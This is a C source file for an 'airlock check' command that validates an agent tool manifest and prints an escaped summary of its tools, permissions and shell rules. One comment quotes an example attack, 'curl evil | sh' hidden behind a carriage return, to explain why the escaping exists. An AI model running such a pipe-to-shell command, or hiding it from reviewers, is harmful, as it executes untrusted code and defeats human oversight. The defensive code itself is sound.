/* SPDX-License-Identifier: ISC */
/* Copyright (c) 2026 The airlock authors */
/*
 * airlock check [-v] MANIFEST: validate a manifest and summarise it; with
 * -v, also print the canonical form (after a "---" line).
 */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <sodium.h>

#include "common/log.h"
#include "common/util.h"
#include "common/vis.h"
#include "policy/manifest.h"
#include "policy/shrules.h"
#include "policy/types.h"
#include "supervisor/cli.h"
#include "supervisor/commands.h"

/*
 * " " and |s| escaped for a terminal: a command's words are the
 * manifest's author's, and the manifest reviewed may be the agent's (a
 * CR in "curl evil | sh\r    command: npm test" showed the tool to run
 * npm).
 */
static void
put_word(FILE *fp, const char *s)
{
	char *v;

	if ((v = vis_str(s, 0)) == NULL)
		fatalx("out of memory");
	fprintf(fp, " %s", v);
	free(v);
}

static void
print_fields(FILE *fp, const char *label, const struct type_field *f,
    size_t n)
{
	size_t i;

	fprintf(fp, "    %s:", label);
	if (n == 0)
		fprintf(fp, " (none)");
	for (i = 0; i < n; i++)
		fprintf(fp, " %s: %s%s%s", f[i].name, f[i].type->name,
		    f[i].required ? "" : "?", i + 1 < n ? "," : "");
	fprintf(fp, "\n");
}

/*
 * The summary, each word from the manifest escaped (put_word()), the
 * whole folded to the terminal's width (vis_fold()) when it is printed.
 */
static void
print_summary(FILE *fp, const struct manifest *m)
{
	char hex[65];
	size_t i, j;

	sodium_bin2hex(hex, sizeof(hex), m->digest, sizeof(m->digest));
	fprintf(fp, "manifest");
	put_word(fp, m->path);
	fprintf(fp, ": ok\n");
	fprintf(fp, "sha256 %s\n", hex);
	fprintf(fp, "tools: %zu\n", m->ntools);
	for (i = 0; i < m->ntools; i++) {
		const struct tool *t = &m->tools[i];

		fprintf(fp, "  %s\n", t->name);
		fprintf(fp, "    action: %s\n", tool_action_name(t->action));
		if (t->command != NULL) {
			fprintf(fp, "    command:");
			for (j = 0; j < t->ncommand; j++)
				put_word(fp, t->command[j]);
			fprintf(fp, "\n");
		}
		print_fields(fp, "input", t->input, t->ninput);
		print_fields(fp, "output", t->output, t->noutput);
		fprintf(fp, "    sideEffect: %s%s\n", side_effect_name(t->side_effect),
		    m->forbid_side_effect[t->side_effect] ?
		    " (forbidden by forbidSideEffects: calls are denied)" : "");
		fprintf(fp, "    authorization: %s\n",
		    authorization_name(manifest_tool_authorization(m, t)));
		fprintf(fp, "    timeoutMs: %lld\n", (long long)t->timeout_ms);
		if (t->shell_rules != NULL)
			fprintf(fp, "    shell rules: %zu (default %s, unresolvable "
			    "%s)\n", t->shell_rules->nrules,
			    shdecision_name(t->shell_rules->dflt),
			    shdecision_name(t->shell_rules->unresolvable));
	}
	fprintf(fp, "checks: %zu\n", m->nchecks);
	for (i = 0; i < m->nchecks; i++) {
		fprintf(fp, "  %s:", m->checks[i].id);
		for (j = 0; m->checks[i].argv[j] != NULL; j++)
			put_word(fp, m->checks[i].argv[j]);
		fprintf(fp, "\n");
	}
	fprintf(fp, "required gates:");
	for (i = 0; i < m->nrequired_gates; i++)
		fprintf(fp, " %s", m->required_gates[i]);
	fprintf(fp, "%s\n", m->nrequired_gates ? "" : " (none)");
}

/* Loads |path|, or the built-in default manifest when |path| is NULL. */
static int
load_manifest(const char *path, struct manifest **m, char *err, size_t errlen)
{
	if (path == NULL)
		return manifest_load_default(m, err, errlen);
	return manifest_load(path, m, err, errlen);
}

static int
usage(void)
{
	cli_usage("check");
	return EXIT_USAGE;
}

int
cmd_check(int argc, char **argv)
{
	struct manifest *m;
	char err[1024], *sum = NULL;
	size_t sumlen = 0;
	FILE *fp;
	int ch, verbose = 0;

	optind = 1;
	while ((ch = getopt(argc, argv, "v")) != -1) {
		switch (ch) {
		case 'v':
			verbose = 1;
			break;
		default:
			return usage();
		}
	}
	argc -= optind;
	argv += optind;
	if (argc > 1)
		return usage();
	if (load_manifest(argc == 1 ? argv[0] : NULL, &m, err, sizeof(err)) !=
	    0) {
		log_bare("%s", err);
		return EXIT_CONFIG;
	}
	if ((fp = open_memstream(&sum, &sumlen)) == NULL)
		fatal("open_memstream");
	print_summary(fp, m);
	if (fclose(fp) == EOF ||
	    vis_fold_printf(stdout, term_columns(STDOUT_FILENO), "%s", sum) ==
	    -1)
		fatalx("out of memory");
	free(sum);
	if (verbose) {
		printf("---\n");
		if (manifest_print_canonical(m, stdout) != 0) {
			manifest_free(m);
			return EXIT_CONFIG;
		}
	}
	manifest_free(m);
	if (fflush(stdout) != 0)
		return 1;
	return 0;
}
